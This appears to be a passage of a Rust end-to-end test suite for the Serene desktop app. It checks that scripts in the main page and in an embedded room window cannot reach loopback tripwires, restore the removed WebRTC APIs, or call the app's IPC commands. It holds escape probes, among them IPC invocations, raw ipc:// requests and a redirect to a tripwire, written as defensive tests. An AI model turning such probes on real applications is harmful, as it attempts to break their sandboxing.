document.querySelectorAll('.leak-probe, #leak-target').forEach((n) => n.remove());
"#
    )
}

/// Where the page is, the CSP reports since the `SEEN`th, and `OUT` (what the vector said).
const STATE: &str = "const __csp = Array.isArray(window.__sereneCspViolations) ? window.__sereneCspViolations : null;\
    return { url: window.location.href, csp: __csp && __csp.slice(SEEN).map((v) => v.directive),\
    total: __csp ? __csp.length : 0, out: OUT };";

/// One row of the evidence table.
struct Row {
    vector: &'static str,
    kind: Kind,
    outcome: String,
    url: String,
    windows: usize,
    csp: Vec<String>,
    guard: Vec<String>,
    reached: Vec<String>,
}

fn tag_of(name: &str) -> String {
    let slug: String = name
        .chars()
        .map(|c| if c.is_ascii_alphanumeric() { c } else { '-' })
        .collect();
    format!("leak-{}", slug.trim_matches('-'))
}

fn outcome_text(value: &Value) -> String {
    match value {
        Value::String(s) => s.clone(),
        Value::Null => String::new(),
        other => other.to_string(),
    }
}

/// Runs vectors, one at a time, in the window the driver is on, aimed at tripwires `a`
/// and `b` (the same one twice in the room), and reads back what each did: the page's
/// location and CSP reports, the window count, the app log's "blocked" lines (the
/// navigation guard and new-window denial log there) and every connection the tripwires
/// took meanwhile.
struct Runner<'a> {
    app: &'a App,
    a: &'a Tripwire,
    b: &'a Tripwire,
    windows: usize,
    csp_seen: usize,
    log_file: std::path::PathBuf,
    log_seen: usize,
}

impl<'a> Runner<'a> {
    async fn new(app: &'a App, a: &'a Tripwire, b: &'a Tripwire) -> Runner<'a> {
        let log_file = support::files_under(&app.desktop.home)
            .into_iter()
            .find(|file| file.file_name().is_some_and(|n| n == "serene.log"))
            .expect("the app's log file");
        let log_seen = std::fs::read(&log_file).unwrap_or_default().len();
        Runner {
            app,
            a,
            b,
            windows: app.driver.windows().await.unwrap().len(),
            csp_seen: 0,
            log_file,
            log_seen,
        }
    }

    /// How many connections each tripwire has logged so far.
    fn logged(&self) -> (usize, usize) {
        (self.a.log().len(), self.b.log().len())
    }

    /// The connections logged since `since` (from [`Runner::logged`]).
    fn connections_since(&self, since: (usize, usize)) -> Vec<String> {
        let a = self.a.log();
        let mut new = a[since.0.min(a.len())..].to_vec();
        if !std::ptr::eq(self.a, self.b) {
            let b = self.b.log();
            new.extend_from_slice(&b[since.1.min(b.len())..]);
        }
        new
    }

    fn state(&self, out: &str) -> String {
        STATE
            .replace("SEEN", &self.csp_seen.to_string())
            .replace("OUT", out)
    }

    async fn run(&mut self, vector: &'static str, kind: Kind, js: &str) -> Row {
        let app = self.app;
        let before = self.logged();
        let prelude = prelude(&tag_of(vector), self.a, self.b);
        let state = match kind {
            // One round trip: the vector, a short settle, then the page's state.
            Request => {
                app.script_async(&format!(
                    "{prelude}\nconst __out = await (async () => {{ {js} }})();\nawait sleep(100);\n{}",
                    self.state("String(__out)")
                ))
                .await
            }
            Navigation => {
                let out = app.script_async(&format!("{prelude}\n{js}")).await;
                tokio::time::sleep(Duration::from_millis(350)).await;
                let mut state = app.script(&self.state("null")).await;
                state["out"] = out;
                state
            }
            // A real click on the element the script set up, then what its handler saw.
            Gesture => {
                let ready = app.script_async(&format!("{prelude}\n{js}")).await;
                assert_eq!(ready, "ready", "{vector}: could not set up its target");
                let element = app.driver.find(By::Id("leak-target")).await.unwrap();
                element.scroll_into_view().await.ok();
                let clicked = element.click().await;
                tokio::time::sleep(Duration::from_millis(350)).await;
                let mut state = app
                    .script(&self.state("String(window.__leakOutcome)"))
                    .await;
                if let Err(error) = clicked {
                    state["out"] = format!("WebDriver click failed: {error}").into();
                }
                state
            }
        };
        let outcome = match (&state["out"], &state["scriptError"]) {
            (Value::Null, error) if !error.is_null() => format!("script error: {error}"),
            (out, _) => outcome_text(out),
        };
        let csp: Vec<String> = state["csp"]
            .as_array()
            .map(|seen| {
                seen.iter()
                    .map(outcome_text)
                    .collect::<std::collections::BTreeSet<_>>()
                    .into_iter()
                    .collect()
            })
            .unwrap_or_default();
        self.csp_seen = state["total"].as_u64().unwrap_or(0) as usize;
        let windows = if kind == Request {
            self.windows
        } else {
            app.driver.windows().await.unwrap().len()
        };
        let log = std::fs::read(&self.log_file).unwrap_or_default();
        let guard = String::from_utf8_lossy(&log[self.log_seen.min(log.len())..])
            .lines()
            .filter_map(|line| line.find("blocked").map(|at| line[at..].to_string()))
            .collect();
        self.log_seen = log.len();
        let reached = self.connections_since(before);
        Row {
            vector,
            kind,
            outcome,
            url: outcome_text(&state["url"]),
            windows,
            csp,
            guard,
            reached,
        }
    }
}

fn print_row(row: &Row) {
    let or_dash = |items: &[String]| {
        if items.is_empty() {
            "-".to_string()
        } else {
            items.join(", ")
        }
    };
    println!(
        "{:<50} {:<10} | page: {:<42} | csp: {:<26} | app: {:<40} | tripwire: {}",
        row.vector,
        format!("{:?}", row.kind),
        row.outcome,
        or_dash(&row.csp),
        or_dash(&row.guard),
        if row.reached.is_empty() {
            "nothing".to_string()
        } else {
            row.reached.join(" | ")
        }
    );
}

fn print_table(title: &str, rows: &[Row]) {
    println!("\n== {title} ==");
    rows.iter().for_each(print_row);
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_leaves_the_main_page() {
    let a = Tripwire::start();
    let b = Tripwire::start();
    let app = App::launch(&[]).await;
    let start_url = app.page_url().await;
    let began = Instant::now();
    let mut runner = Runner::new(&app, &a, &b).await;
    let windows = runner.windows;
    let mut rows = Vec::new();
    let mut leaks = Vec::new();
    let mut known = 0;

    for &(vector, kind, js) in VECTORS {
        let row = runner.run(vector, kind, js).await;
        print_row(&row);
        // A navigation or a new window takes the page (or the driver) elsewhere: stop
        // there. A connection to a tripwire is collected, so that one run shows the whole
        // matrix, and fails the test at the end.
        assert_eq!(
            row.url, start_url,
            "{vector}: the main window navigated away (page said: {})",
            row.outcome
        );
        assert_eq!(
            row.windows, windows,
            "{vector}: a new window opened (page said: {})",
            row.outcome
        );
        if only_known_preconnect(vector, &row.reached) {
            known += row.reached.len();
        } else if !row.reached.is_empty() {
            leaks.push(format!(
                "{vector}: {:?} (page said: {}; app log: {:?})",
                row.reached, row.outcome, row.guard
            ));
        }
        rows.push(row);
    }

    // Still the app, and still working.
    app.script("document.querySelectorAll('.leak-probe, #leak-target').forEach((n) => n.remove()); window.scrollTo(0, 0); return null;")
        .await;
    app.by_text("button", "Get help now").await;
    assert!(!app.heading().await.is_empty(), "the app shows no screen");
    app.screenshot("leak-main");
    print_table("main page: every vector", &rows);
    println!(
        "main page: {} vectors in {:.1} s; tripwires on ports {} and {} (ipv6 {}/{}, udp {}/{})",
        rows.len(),
        began.elapsed().as_secs_f64(),
        a.port,
        b.port,
        a.ipv6,
        b.ipv6,
        a.udp,
        b.udp
    );
    let total = a.hits() + b.hits();
    app.quit().await;
    println!("known speculative connections (nothing sent): {known}");
    assert!(
        leaks.is_empty() && total == known,
        "the main page reached a loopback listener ({total} connection(s) in all):\n{}",
        leaks.join("\n")
    );
}

/// WebRTC is not governed by `connect-src`. WebKitGTK here has none at all, so "absent"
/// alone would prove nothing: the main page must show the app's own removal (each name a
/// non-configurable, non-writable own property holding `undefined`, which only
/// `no_webrtc.js` makes), in the page and in a same-origin frame, and page script must
/// fail to restore any of them.
const WEBRTC_NAMES: &[&str] = &[
    "RTCPeerConnection",
    "webkitRTCPeerConnection",
    "RTCDataChannel",
    "RTCRtpSender",
    "RTCRtpReceiver",
    "RTCRtpTransceiver",
    "RTCIceCandidate",
    "RTCSessionDescription",
    "RTCDtlsTransport",
    "RTCIceTransport",
    "RTCSctpTransport",
];

#[tokio::test(flavor = "multi_thread")]
async fn webrtc_is_removed_from_the_main_page_for_good() {
    let app = App::launch(&[]).await;
    let names = serde_json::to_string(WEBRTC_NAMES).unwrap();
    let seen = app
        .script_async(&format!(
            "const names = {names};\
             const state = (w) => Object.fromEntries(names.map((n) => {{\
               const d = Object.getOwnPropertyDescriptor(w, n);\
               return [n, d ? `${{typeof d.value}} writable=${{d.writable}} configurable=${{d.configurable}}` : 'no own property'];\
             }}));\
             const before = state(window);\
             const restore = {{}};\
             for (const n of names) {{\
               const fake = function () {{}};\
               try {{ delete window[n]; }} catch (e) {{}}\
               try {{ Object.defineProperty(window, n, {{ value: fake, configurable: true, writable: true }}); }} catch (e) {{}}\
               try {{ window[n] = fake; }} catch (e) {{}}\
               try {{ Reflect.set(globalThis, n, fake); }} catch (e) {{}}\
               restore[n] = typeof window[n];\
             }}\
             const frames = {{}};\
             const host = document.createElement('div');\
             document.body.appendChild(host);\
             const shadow = host.attachShadow({{ mode: 'closed' }});\
             const make = {{\
               blank: () => {{ const f = document.createElement('iframe'); document.body.appendChild(f); return f; }},\
               srcdoc: () => {{ const f = document.createElement('iframe'); f.srcdoc = '<p>x</p>'; document.body.appendChild(f); return f; }},\
               srcdocLater: () => {{ const f = document.createElement('iframe'); document.body.appendChild(f); f.setAttribute('srcdoc', '<p>x</p>'); return f; }},\
               innerHTML: () => {{ const d = document.createElement('div'); document.body.appendChild(d); d.innerHTML = '<iframe srcdoc=\"<p>x</p>\"></iframe>'; return d.firstChild; }},\
               shadowRoot: () => {{ const f = document.createElement('iframe'); f.srcdoc = '<p>x</p>'; shadow.appendChild(f); return f; }},\
             }};\
             for (const [label, build] of Object.entries(make)) {{\
               let f;\
               try {{ f = build(); }} catch (e) {{ frames[label] = 'refused: ' + e.name; continue; }}\
               await new Promise((r) => setTimeout(r, 700));\
               try {{ frames[label] = f.contentWindow ? state(f.contentWindow) : 'no window'; }}\
               catch (e) {{ frames[label] = 'no access: ' + e.name; }}\
               f.remove();\
             }}\
             host.remove();\
             const writes = {{}};\
             for (const name of ['open', 'write', 'writeln']) {{\
               try {{ document[name]('<iframe srcdoc=x></iframe>'); writes[name] = 'wrote'; }} catch (e) {{ writes[name] = 'refused'; }}\
             }}\
             writes.setHTMLUnsafe = typeof document.body.setHTMLUnsafe;\
             return JSON.stringify({{ before, restore, frames, writes }});"
        ))
        .await;
    let text = seen.as_str().expect("a report").to_string();
    println!("{text}");
    let report: Value = serde_json::from_str(&text).unwrap();
    let removed = "undefined writable=false configurable=false";
    for name in WEBRTC_NAMES {
        assert_eq!(
            report["before"][name], removed,
            "{name} is not removed in the main page: {text}"
        );
        assert_eq!(
            report["restore"][name], "undefined",
            "page script restored {name}: {text}"
        );
    }
    for (label, frame) in report["frames"].as_object().unwrap() {
        // A frame that was removed is fine; one the page can reach must be as clean.
        assert!(
            frame.is_object() || frame == "no window",
            "the {label} frame: {frame}"
        );
        if let Some(frame) = frame.as_object() {
            for name in WEBRTC_NAMES {
                assert_eq!(
                    frame[*name], removed,
                    "{name} is not removed in a {label} frame: {text}"
                );
            }
        }
    }
    assert_eq!(
        report["frames"]["blank"]["RTCPeerConnection"], removed,
        "an about:blank frame should stay, and be clean: {text}"
    );
    for name in ["open", "write", "writeln"] {
        assert_eq!(report["writes"][name], "refused", "document.{name}: {text}");
    }
    assert_eq!(report["writes"]["setHTMLUnsafe"], "undefined");
    // Still the app.
    app.by_text("button", "Get help now").await;
    app.quit().await;
}

/// The page the test puts in the room's place: plain, so that the test drives it through
/// WebDriver like the main page.
const ROOM_PAGE: &str =
    "<!doctype html><html><head><title>room</title></head><body><h1>room</h1></body></html>";

#[tokio::test(flavor = "multi_thread")]
async fn nothing_leaves_the_room_window_by_navigation_new_windows_or_ipc() {
    // `nav` is what the boundary vectors aim at and must stay silent; `sub` takes the
    // room page's own subresource loads, which are recorded only.
    let nav = Tripwire::start();
    let sub = Tripwire::start();
    let room_server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/room123"))
        .respond_with(ResponseTemplate::new(200).set_body_raw(ROOM_PAGE, "text/html"))
        .mount(&room_server)
        .await;
    // A same-origin address that redirects to the tripwire: the navigation may start, but
    // must not follow the redirect off the room's origin.
    Mock::given(method("GET"))
        .and(path("/bounce"))
        .respond_with(
            ResponseTemplate::new(302)
                .insert_header("Location", nav.url("leak-redirect-from-the-room-origin")),
        )
        .mount(&room_server)
        .await;
    let room_url = format!("{}/room123", room_server.uri());
    let fakes = Fakes::start_with_room(&room_url).await;
    let (app, opened_log) = launch_with(
        &fakes,
        &[
            ("SERENE_TEST_ROOM_ORIGIN", room_server.uri()),
            ("SERENE_TEST_ROOM_PRESENTATION", "window".into()),
        ],
    )
    .await;
    ready(&app).await;
    let main_url = app.page_url().await;
    let main_window = app.driver.window().await.unwrap();
    start_session(&app, "").await;
    app.wait_for_text("h1", "Your session").await;
    // The session window the core opens on Windows and macOS, here showing our loopback
    // page: the Live screen asked `show_room`, and the core, told by the e2e-only
    // `SERENE_TEST_ROOM_PRESENTATION=window`, opened it.
    let room_window = find_window(&app, &room_url, &main_window).await;
    app.driver.switch_to_window(room_window).await.unwrap();
    assert_eq!(app.page_url().await, room_url);
    let opened_before = std::fs::read_to_string(opened_log.path()).unwrap_or_default();
    let began = Instant::now();

    // 1. The IPC bridge: no command answers, through the injected bridge or by hand.
    let ipc = app
        .script_async(
            "const internals = window.__TAURI_INTERNALS__;\
             const call = async (cmd, args) => { if (!internals || !internals.invoke) return 'no bridge';\
               try { const v = await internals.invoke(cmd, args); return 'answered ' + JSON.stringify(v); }\
               catch (e) { return 'refused: ' + JSON.stringify(e); } };\
             const raw = async (url) => { try { const r = await fetch(url, { method: 'POST', body: JSON.stringify({ id: 'findahelpline' }), headers: { 'Content-Type': 'application/json', 'Tauri-Callback': '1', 'Tauri-Error': '2' } });\
               return 'status ' + r.status + ' ' + (await r.text()).slice(0, 120); } catch (e) { return 'threw ' + e.name; } };\
             return {\
               bridge: typeof internals,\
               webkitIpcHandler: typeof (window.webkit && window.webkit.messageHandlers && window.webkit.messageHandlers.ipc),\
               appInfo: await call('app_info'),\
               helpLink: await call('open_help_link', { id: 'findahelpline' }),\
               keyStatus: await call('key_status', { provider: 'tavus' }),\
               endSession: await call('end_video_session', { conversationId: 'c123abc' }),\
               rawIpcScheme: await raw('ipc://localhost/open_help_link'),\
               rawIpcHttp: await raw('http://ipc.localhost/open_help_link'),\
             };",
        )
        .await;
    println!("room IPC probes: {ipc}");
    for (probe, answer) in ipc.as_object().unwrap() {
        let answer = outcome_text(answer);
        assert!(
            !answer.starts_with("answered") && !answer.contains("\"version\""),
            "the room reached the core with {probe}: {answer}"
        );
        assert!(
            !(probe.starts_with("raw") && answer.starts_with("status 2")),
            "a hand-made IPC request from the room was answered: {probe}: {answer}"
        );
    }

    // 2. Navigations and new windows: the room window's navigation lock (its origin only)
    //    and new-window denial must keep every one of them from the tripwire.
    let mut boundary: Vec<(&'static str, Kind, String)> = VECTORS
        .iter()
        .filter(|(name, kind, _)| {
            // A javascript: URL is not a navigation in the room: it runs script in the
            // room's own page (no CSP of ours), i.e. it is a fetch, not our boundary.
            *kind != Request && *name != "location to a javascript: URL"
        })
        .map(|&(name, kind, js)| (name, kind, js.to_string()))
        .collect();
    boundary.push((
        "same-origin navigation that redirects to loopback",
        Navigation,
        "return attempt(() => { location.href = '/bounce'; });".to_string(),
    ));
    let mut runner = Runner::new(&app, &nav, &nav).await;
    let windows = runner.windows;
    let mut rows = Vec::new();
    let mut leaks = Vec::new();
    let mut known = 0;
    for (vector, kind, js) in &boundary {
        let row = runner.run(vector, *kind, js).await;
        print_row(&row);
        assert_eq!(
            row.url, room_url,
            "room, {vector}: the room window navigated away (page said: {})",
            row.outcome
        );
        assert_eq!(
            row.windows, windows,
            "room, {vector}: a new window opened (page said: {})",
            row.outcome
        );
        if only_known_preconnect(vector, &row.reached) {
            known += row.reached.len();
        } else if !row.reached.is_empty() {
            leaks.push(format!(
                "room, {vector}: {:?} (page said: {}; app log: {:?})",
                row.reached, row.outcome, row.guard
            ));
        }
        rows.push(row);
    }

    // 3. The room page's own loads: not our boundary (a remote page, no CSP of ours).
    //    Recorded, so the report can say what such a page can do.
    let mut runner = Runner::new(&app, &sub, &sub).await;
    let mut recorded = Vec::new();
    for wanted in ROOM_SUBRESOURCES {
        let &(vector, kind, js) = VECTORS.iter().find(|(name, _, _)| name == wanted).unwrap();
        let row = runner.run(vector, kind, js).await;
        print_row(&row);
        assert_eq!(row.url, room_url, "room, {vector}: the room window moved");
        recorded.push(row);
    }
    app.desktop.screenshot("leak-room");
    print_table("room window: boundary vectors (asserted)", &rows);
    print_table(
        "room page's own loads (recorded, not our boundary)",
        &recorded,
    );
    println!(
        "room: {} boundary + {} recorded vectors in {:.1} s",
        rows.len(),
        recorded.len(),
        began.elapsed().as_secs_f64()
    );

    // The core opened nothing for the room; the main window did not move.
    assert_eq!(
        std::fs::read_to_string(opened_log.path()).unwrap_or_default(),
        opened_before,
        "the core opened something in the browser for the room"
    );
    app.driver.switch_to_window(main_window).await.unwrap();
    assert_eq!(app.page_url().await, main_url, "the main window moved");
    app.by_text("h1", "Your session").await;
    let total = nav.hits();
    app.quit().await;
    println!("known speculative connections (nothing sent): {known}");
    assert!(
        leaks.is_empty() && total == known,
        "the room window's navigations or new windows reached a loopback listener ({total} connection(s) in all):\n{}",
        leaks.join("\n")
    );
}

/// The WebDriver handle of the window showing `url`, leaving the driver on `home`.
async fn find_window(app: &App, url: &str, home: &WindowHandle) -> WindowHandle {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        for handle in app.driver.windows().await.unwrap() {
            if &handle == home || app.driver.switch_to_window(handle.clone()).await.is_err() {
                continue;
            }
            let here = app
                .driver
                .execute("return window.location.href;", Vec::<Value>::new())
                .await
                .map(|r| outcome_text(r.json()))
                .unwrap_or_default();
            app.driver.switch_to_window(home.clone()).await.unwrap();
            if here == url {
                return handle;
            }
        }
        assert!(
            Instant::now() < deadline,
            "WebDriver never showed the room window: {:?}",
            app.driver.windows().await
        );
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
}
